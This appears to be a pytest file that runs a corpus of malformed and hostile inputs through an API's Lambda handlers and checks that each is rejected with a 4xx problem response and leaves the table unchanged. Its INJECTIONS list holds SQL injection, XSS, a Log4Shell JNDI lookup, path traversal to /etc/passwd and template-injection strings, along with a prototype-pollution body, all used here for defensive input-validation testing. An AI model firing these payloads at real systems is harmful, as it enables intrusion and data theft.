"""A corpus of bad input, through the real handlers: each case is a 4xx problem+json
that names the offending field, and the table is left exactly as it was.

The events are API Gateway REST proxy events as the function receives them in
AWS (and from the local stack), so body parsing, content negotiation, schema
validation, the calendar checks and the idempotency-key rules are all exercised.
"""

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import pytest

from infra.local.events import LambdaContext
from ingest import handler as ingest_handler
from shared import observability
from shared.observability import LambdaHandler
from shared.rollups import RollupStore
from shared.submissions import SubmissionStore
from stats import api as stats_api
from tests.support.dynamo import TABLE_NAME, scan_all
from tools.events import api_event

if TYPE_CHECKING:
    from mypy_boto3_dynamodb import DynamoDBClient

SUBMIT = "/api/submit-number"
STATS = "/api/daily-stats"
VALID_KEY = "a1b2c3d4-e5f6-4711-8899-aabbccddeeff"
ONE_MEGABYTE = 1024 * 1024
FULLWIDTH_2026 = "\uff12\uff10\uff12\uff16"  # "2026" in fullwidth digits


@dataclass(frozen=True)
class Case:
    id: str
    event: Callable[[], dict[str, Any]]
    status: int
    # The offending field: an errors[].field, an errors[].pointer, or a word of the detail.
    names: str


def submit(body: Any = None, **kwargs: Any) -> Callable[[], dict[str, Any]]:
    return lambda: api_event("POST", SUBMIT, body=body, **kwargs)


def submit_raw(raw: str | bytes, **kwargs: Any) -> Callable[[], dict[str, Any]]:
    return lambda: api_event("POST", SUBMIT, raw_body=raw, **kwargs)


def submit_without_content_type(body: Any) -> Callable[[], dict[str, Any]]:
    def event() -> dict[str, Any]:
        built = api_event("POST", SUBMIT, body=body)
        built["headers"] = {}
        built["multiValueHeaders"] = {}
        return built

    return event


def submit_with_key(key: str, body: Any = None) -> Callable[[], dict[str, Any]]:
    return submit(body or {"number": 5}, headers={"Idempotency-Key": key})


def stats(**query: str | list[str]) -> Callable[[], dict[str, Any]]:
    return lambda: api_event("GET", STATS, query=query)


def nested(depth: int, inner: str = "5") -> str:
    return "[" * depth + inner + "]" * depth


INJECTIONS = [
    "'; DROP TABLE submissions; --",
    "' OR '1'='1",
    '{"$ne": null}',
    "<script>alert(1)</script>",
    "${jndi:ldap://203.0.113.7/a}",
    "../../../../etc/passwd",
    "{{7*7}}",
]

CASES = [
    # --- the body is not a JSON object ---------------------------------------------------
    Case("not-json", submit_raw("number=5"), 400, "body"),
    Case("not-json-truncated", submit_raw('{"number": 5'), 400, "body"),
    Case("json-with-comment", submit_raw('{"number": 5 /* hi */}'), 400, "body"),
    Case("single-quotes", submit_raw("{'number': 5}"), 400, "body"),
    Case("empty-body", submit_raw(""), 400, "body"),
    Case("whitespace-body", submit_raw(" \n\t "), 400, "body"),
    Case("json-null", submit_raw("null"), 400, "#"),
    Case("json-string", submit_raw('"5"'), 400, "#"),
    Case("json-number", submit_raw("5"), 400, "#"),
    Case("array", submit([{"number": 5}]), 400, "#"),
    Case("empty-array", submit_raw("[]"), 400, "#"),
    Case("two-documents", submit_raw('{"number": 5}{"number": 6}'), 400, "body"),
    Case("duplicate-key", submit_raw('{"number": 5, "number": 6}'), 400, "number"),
    Case("utf8-bom", submit_raw('\ufeff{"number": 5}'), 400, "body"),
    Case("invalid-utf8", submit_raw(b'{"number": 5, "timestamp": "\xff\xfe"}'), 400, "body"),
    Case(
        "bad-base64",
        lambda: {**api_event("POST", SUBMIT), "body": "%%%", "isBase64Encoded": True},
        400,
        "body",
    ),
    # --- content type ----------------------------------------------------------------------
    Case(
        "text-plain",
        submit({"number": 5}, headers={"Content-Type": "text/plain"}),
        415,
        "Content-Type",
    ),
    Case(
        "form-urlencoded",
        submit_raw("number=5", headers={"Content-Type": "application/x-www-form-urlencoded"}),
        415,
        "Content-Type",
    ),
    Case(
        "json-lookalike",
        submit({"number": 5}, headers={"Content-Type": "application/jsonp"}),
        415,
        "Content-Type",
    ),
    Case("no-content-type", submit_without_content_type({"number": 5}), 415, "Content-Type"),
    Case(
        "empty-content-type",
        submit({"number": 5}, headers={"Content-Type": ""}),
        415,
        "Content-Type",
    ),
    # --- too much ----------------------------------------------------------------------------
    Case("deeply-nested-array", submit_raw(nested(2000)), 400, "body"),
    Case("deeply-nested-field", submit_raw('{"number": ' + nested(1500) + "}"), 400, "body"),
    Case("nested-in-field", submit_raw('{"number": ' + nested(20) + "}"), 400, "number"),
    Case(
        "nested-objects",
        submit_raw('{"number": 5, "location": ' + '{"a": ' * 30 + "1" + "}" * 31),
        400,
        "location",
    ),
    Case("one-megabyte", submit({"number": 5, "timestamp": "x" * ONE_MEGABYTE}), 413, "body"),
    Case("one-megabyte-base64", submit_raw(b" " * ONE_MEGABYTE + b'{"number": 5}'), 413, "body"),
    Case("just-over-the-limit", submit_raw('{"number": 5}' + " " * 4084), 413, "body"),
    # --- the number ----------------------------------------------------------------------------
    Case("missing-number", submit({}), 400, "number"),
    Case("number-as-string", submit({"number": "5"}), 400, "number"),
    Case("number-as-word", submit({"number": "five"}), 400, "number"),
    Case("float", submit({"number": 5.5}), 400, "number"),
    Case("float-integral", submit_raw('{"number": 5.0}'), 400, "number"),
    Case("exponent", submit_raw('{"number": 5e0}'), 400, "number"),
    Case("true", submit({"number": True}), 400, "number"),
    Case("false", submit({"number": False}), 400, "number"),
    Case("null-number", submit({"number": None}), 400, "number"),
    Case("zero", submit({"number": 0}), 400, "number"),
    Case("eleven", submit({"number": 11}), 400, "number"),
    Case("negative", submit({"number": -5}), 400, "number"),
    Case("huge-integer", submit_raw('{"number": ' + "9" * 400 + "}"), 400, "number"),
    Case("1e309", submit_raw('{"number": 1e309}'), 400, "body"),
    Case("-1e309", submit_raw('{"number": -1e309}'), 400, "body"),
    Case("NaN", submit_raw('{"number": NaN}'), 400, "body"),
    Case("Infinity", submit_raw('{"number": Infinity}'), 400, "body"),
    Case("-Infinity", submit_raw('{"number": -Infinity}'), 400, "body"),
    Case("number-object", submit({"number": {"value": 5}}), 400, "number"),
    # --- extra and unexpected fields ---------------------------------------------------------
    Case("extra-field", submit({"number": 5, "admin": True}), 400, "admin"),
    Case("extra-id", submit({"number": 5, "id": "x"}), 400, "id"),
    Case("extra-date", submit({"number": 5, "date": "2026-01-01"}), 400, "date"),
    Case("case-variant", submit({"Number": 5}), 400, "number"),
    Case(
        "prototype-pollution",
        submit_raw('{"number": 5, "__proto__": {"admin": true}}'),
        400,
        "__proto__",
    ),
    Case("mongo-operator", submit({"number": {"$gt": 0}}), 400, "number"),
    Case("empty-key", submit({"number": 5, "": 1}), 400, "#/"),
    # --- the location ----------------------------------------------------------------------
    Case("location-string", submit({"number": 5, "location": "Paris"}), 400, "location"),
    Case("location-array", submit({"number": 5, "location": [48.8, 2.3]}), 400, "location"),
    Case(
        "latitude-missing",
        submit({"number": 5, "location": {"longitude": 2.3}}),
        400,
        "location.latitude",
    ),
    Case(
        "latitude-91",
        submit({"number": 5, "location": {"latitude": 91, "longitude": 2}}),
        400,
        "location.latitude",
    ),
    Case(
        "longitude-181",
        submit({"number": 5, "location": {"latitude": 1, "longitude": -181}}),
        400,
        "location.longitude",
    ),
    Case(
        "latitude-string",
        submit({"number": 5, "location": {"latitude": "48.8", "longitude": 2}}),
        400,
        "location.latitude",
    ),
    Case(
        "latitude-bool",
        submit({"number": 5, "location": {"latitude": True, "longitude": 2}}),
        400,
        "location.latitude",
    ),
    Case(
        "latitude-1e309",
        submit_raw('{"number": 5, "location": {"latitude": 1e309, "longitude": 2}}'),
        400,
        "body",
    ),
    Case(
        "latitude-NaN",
        submit_raw('{"number": 5, "location": {"latitude": NaN, "longitude": 2}}'),
        400,
        "body",
    ),
    Case(
        "location-extra",
        submit({"number": 5, "location": {"latitude": 1, "longitude": 2, "accuracy": 3}}),
        400,
        "location.accuracy",
    ),
    # --- the client timestamp ------------------------------------------------------------------
    Case(
        "timestamp-2026-02-30",
        submit({"number": 5, "timestamp": "2026-02-30T10:00:00Z"}),
        400,
        "timestamp",
    ),
    Case(
        "timestamp-month-13",
        submit({"number": 5, "timestamp": "2026-13-01T10:00:00Z"}),
        400,
        "timestamp",
    ),
    Case(
        "timestamp-hour-25",
        submit({"number": 5, "timestamp": "2026-01-01T25:00:00Z"}),
        400,
        "timestamp",
    ),
    Case(
        "timestamp-offset-99",
        submit({"number": 5, "timestamp": "2026-01-01T10:00:00+99:99"}),
        400,
        "timestamp",
    ),
    Case(
        "timestamp-no-offset",
        submit({"number": 5, "timestamp": "2026-01-01T10:00:00"}),
        400,
        "timestamp",
    ),
    Case("timestamp-date-only", submit({"number": 5, "timestamp": "2026-01-01"}), 400, "timestamp"),
    Case("timestamp-epoch", submit({"number": 5, "timestamp": 1767225600}), 400, "timestamp"),
    Case(
        "timestamp-newline",
        submit({"number": 5, "timestamp": "2026-01-01T10:00:00Z\n"}),
        400,
        "timestamp",
    ),
    Case(
        "timestamp-nul",
        submit({"number": 5, "timestamp": "2026-01-01T10:00:00Z\u0000"}),
        400,
        "timestamp",
    ),
    Case(
        "timestamp-fullwidth-digits",
        submit({"number": 5, "timestamp": FULLWIDTH_2026 + "-01-01T10:00:00Z"}),
        400,
        "timestamp",
    ),
    Case(
        "timestamp-lone-surrogate",
        submit_raw('{"number": 5, "timestamp": "\\ud800"}'),
        400,
        "timestamp",
    ),
    Case(
        "timestamp-rtl-override",
        submit({"number": 5, "timestamp": "\u202e2026-01-01T10:00:00Z"}),
        400,
        "timestamp",
    ),
    Case(
        "timestamp-too-long",
        submit({"number": 5, "timestamp": "2026-01-01T10:00:00.123456789+00:00" + "0" * 10}),
        400,
        "timestamp",
    ),
    # --- control characters and unicode in field names ---------------------------------------
    Case("control-char-key", submit({"number": 5, "\u0007bell": 1}), 400, "\u0007bell"),
    Case("unicode-key", submit({"number": 5, "número": 5}), 400, "número"),
    Case("zero-width-key", submit({"num\u200bber": 5}), 400, "number"),
    # --- the Idempotency-Key header ----------------------------------------------------------
    Case("key-empty", submit_with_key(""), 400, "Idempotency-Key"),
    Case("key-too-short", submit_with_key("abc"), 400, "Idempotency-Key"),
    Case("key-too-long", submit_with_key("k" * 129), 400, "Idempotency-Key"),
    Case("key-space", submit_with_key("a1b2c3d4 e5f6 4711 8899"), 400, "Idempotency-Key"),
    Case("key-unicode", submit_with_key("ключ-идемпотентности-1"), 400, "Idempotency-Key"),
    Case("key-newline", submit_with_key(VALID_KEY + "\n"), 400, "Idempotency-Key"),
    Case("key-nul", submit_with_key(VALID_KEY + "\u0000"), 400, "Idempotency-Key"),
    Case("key-path", submit_with_key("../../../../etc/passwd"), 400, "Idempotency-Key"),
    Case("key-sql", submit_with_key("1234567890' OR '1'='1"), 400, "Idempotency-Key"),
    Case("key-with-bad-body", submit_with_key(VALID_KEY, {"number": 0}), 400, "number"),
    # --- GET /api/daily-stats ------------------------------------------------------------------
    Case("from-2026-02-30", stats(**{"from": "2026-02-30"}), 400, "from"),
    Case("to-2026-02-30", stats(to="2026-02-30"), 400, "to"),
    Case("to-2025-02-29", stats(to="2025-02-29"), 400, "to"),
    Case("from-month-13", stats(**{"from": "2026-13-01"}), 400, "from"),
    Case("from-day-00", stats(**{"from": "2026-01-00"}), 400, "from"),
    Case("from-after-to", stats(**{"from": "2026-03-02", "to": "2026-03-01"}), 400, "from"),
    Case("367-days", stats(**{"from": "2025-01-01", "to": "2026-01-02"}), 400, "from"),
    Case("367-days-leap", stats(**{"from": "2024-01-01", "to": "2025-01-01"}), 400, "from"),
    Case("ten-years", stats(**{"from": "2016-01-01", "to": "2026-01-01"}), 400, "from"),
    Case("from-compact", stats(**{"from": "20260101"}), 400, "from"),
    Case("from-unpadded", stats(**{"from": "2026-1-1"}), 400, "from"),
    Case("from-datetime", stats(**{"from": "2026-01-01T00:00:00Z"}), 400, "from"),
    Case("from-empty", stats(**{"from": ""}), 400, "from"),
    Case("from-newline", stats(**{"from": "2026-01-01\n"}), 400, "from"),
    Case("from-fullwidth", stats(**{"from": FULLWIDTH_2026 + "-01-01"}), 400, "from"),
    Case("from-nul", stats(**{"from": "2026-01\u000001"}), 400, "from"),
    Case("from-negative-year", stats(**{"from": "-001-01-01"}), 400, "from"),
    Case("from-year-0000", stats(**{"from": "0000-01-01"}), 400, "from"),
    Case("from-twice", stats(**{"from": ["2026-01-01", "2026-01-02"]}), 400, "from"),
    # Real dates at the ends of the calendar, where date arithmetic overflows.
    Case("to-year-0001", stats(to="0001-01-03"), 400, "to"),
    Case("to-year-9999", stats(**{"from": "9999-12-30", "to": "9999-12-31"}), 400, "from"),
    Case("extra-param", stats(foo="bar"), 400, "foo"),
    Case("param-case", stats(From="2026-01-01"), 400, "From"),
    *(
        Case(f"from-injection-{i}", stats(**{"from": s}), 400, "from")
        for i, s in enumerate(INJECTIONS)
    ),
    # --- injection-looking strings in the body -----------------------------------------------
    *(
        Case(f"number-injection-{i}", submit({"number": s}), 400, "number")
        for i, s in enumerate(INJECTIONS)
    ),
    *(
        Case(f"timestamp-injection-{i}", submit({"number": 5, "timestamp": s}), 400, "timestamp")
        for i, s in enumerate(INJECTIONS)
    ),
    *(
        Case(f"key-injection-{i}", submit({"number": 5, s: 1}), 400, s)
        for i, s in enumerate(INJECTIONS)
    ),
]


@dataclass(frozen=True)
class Handlers:
    """The real handlers (their whole decorator stack), their stores on one table."""

    client: "DynamoDBClient"
    submit_number: LambdaHandler
    daily_stats: LambdaHandler

    def invoke(self, event: dict[str, Any]) -> dict[str, Any]:
        handler = self.submit_number if event["httpMethod"] == "POST" else self.daily_stats
        response: dict[str, Any] = handler(event, LambdaContext.timeless())
        return response


@pytest.fixture
def handlers(table: "DynamoDBClient") -> Handlers:
    return Handlers(
        table,
        ingest_handler.make_handler(SubmissionStore(table, TABLE_NAME)),
        stats_api.make_handler(RollupStore(table, TABLE_NAME)),
    )


def names_of(problem: dict[str, Any]) -> list[str]:
    errors = problem.get("errors", [])
    return [e.get("field", "") for e in errors] + [e.get("pointer", "") for e in errors]


def seed(handlers: Handlers) -> None:
    """One accepted submission, so that a stray write or delete would show in the scan."""
    response = handlers.invoke(
        api_event("POST", SUBMIT, body={"number": 7}, headers={"Idempotency-Key": VALID_KEY})
    )
    assert response["statusCode"] == 201, response
    assert len(scan_all(handlers.client)) == 1


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_is_a_4xx_problem_naming_the_field_and_writes_nothing(handlers, case):
    # Given a table with one submission in it
    client = handlers.client
    seed(handlers)
    before = scan_all(client)

    # When the bad request reaches the handler
    response = handlers.invoke(case.event())

    # Then it is answered with a problem naming the offending field
    assert response["statusCode"] == case.status, response
    assert response["headers"]["Content-Type"] == "application/problem+json"
    problem = json.loads(response["body"])
    assert problem["status"] == case.status
    assert problem["title"]
    assert problem["detail"]
    assert case.names in names_of(problem) or case.names in problem["detail"], problem
    # And the table is exactly as it was
    assert scan_all(client) == before


def test_the_harness_sees_a_write(handlers):
    """The corpus would pass with writes unnoticed if the scan could not see them."""
    client = handlers.client
    seed(handlers)
    before = scan_all(client)

    response = handlers.invoke(api_event("POST", SUBMIT, body={"number": 3}))

    assert response["statusCode"] == 201
    assert len(scan_all(client)) == len(before) + 1


@pytest.mark.parametrize(
    ("key", "pointer"),
    [
        ("../../etc/passwd", "#/..~1..~1etc~1passwd"),
        ("a.b", "#/a.b"),
        ("~0", "#/~00"),
        ("\u0007bell", "#/%07bell"),
        ("", "#/"),
    ],
)
def test_an_offending_key_is_pointed_at_exactly(handlers, key, pointer):
    response = handlers.invoke(api_event("POST", SUBMIT, body={"number": 5, key: 1}))

    assert response["statusCode"] == 400
    [error] = json.loads(response["body"])["errors"]
    assert error["field"] == key
    assert error["pointer"] == pointer


def test_the_one_megabyte_case_is_a_megabyte():
    event = CASES[[c.id for c in CASES].index("one-megabyte-base64")].event()
    assert len(base64.b64decode(event["body"])) > ONE_MEGABYTE


@pytest.mark.parametrize("level", ["DEBUG", "INFO"])
def test_a_submission_is_accepted_whatever_the_log_level(handlers, level):
    """Lambda's default level is INFO; a log field named like a LogRecord attribute
    ('created') once made every accepted submission a 500 there, after the write."""
    logger = observability.logger
    previous = logger.log_level
    logger.setLevel(level)
    try:
        response = handlers.invoke(api_event("POST", SUBMIT, body={"number": 4}))
        replay_key = {"Idempotency-Key": VALID_KEY}
        first = handlers.invoke(api_event("POST", SUBMIT, body={"number": 6}, headers=replay_key))
        replay = handlers.invoke(api_event("POST", SUBMIT, body={"number": 6}, headers=replay_key))
    finally:
        logger.setLevel(previous)

    assert [response["statusCode"], first["statusCode"], replay["statusCode"]] == [201, 201, 200]
